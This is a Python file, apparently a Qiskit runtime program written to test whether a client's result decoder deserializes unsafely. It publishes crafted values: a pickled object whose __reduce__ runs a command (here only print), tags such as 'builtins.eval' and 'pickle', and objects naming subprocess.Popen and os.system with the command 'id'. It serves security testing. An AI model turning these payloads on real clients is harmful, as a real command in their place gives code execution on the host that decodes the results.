import base64
import io
import json
import pickle
import struct
import zlib


class Bomb:
    def __reduce__(self):
        return (print, ("executed on the host",))


def tagged(tag, value):
    return {"__type__": tag, "__value__": value}


def settings(module, name, **content):
    return {"__type__": "settings", "__module__": module, "__class__": name, "__value__": content}


def circuit():
    from qiskit import QuantumCircuit, qpy

    stream = io.BytesIO()
    qpy.dump(QuantumCircuit(1), stream)
    return base64.b64encode(zlib.compress(stream.getvalue())).decode()


def main(backend, user_messenger):
    def publish(value):
        user_messenger.publish(value, encoder=json.JSONEncoder)  # as it is, tags too

    pickled = base64.b64encode(pickle.dumps(Bomb())).decode()
    for tag in ("pickle", "ndarray", "QuantumCircuit", "builtins.eval", "settings", "__class__"):
        publish(tagged(tag, pickled))
    publish({"__class__": "subprocess.Popen", "args": ["id"]})
    parameter = base64.b64encode(struct.pack("!H16s", 1, bytes(16)) + b"x").decode()
    for value in (
        tagged("QuantumCircuit", circuit()),
        tagged("Instruction", circuit()),
        tagged("Parameter", parameter),
        tagged("ParameterVector", ["v", 2, None]),
        tagged("QuantumRegister", [1, "q"]),
        tagged("Options", {"shots": 1}),
        tagged("Options", tagged("set", [1, 2])),
        settings("qiskit.quantum_info.operators.symplectic.pauli", "Pauli", data="X"),
        settings("subprocess", "Popen", args=["id"]),
        tagged("PrimitiveResult", {"pub_results": [], "metadata": {}}),
    ):
        publish(value)
    return {"py/object": "os.system", "__reduce__": pickled}
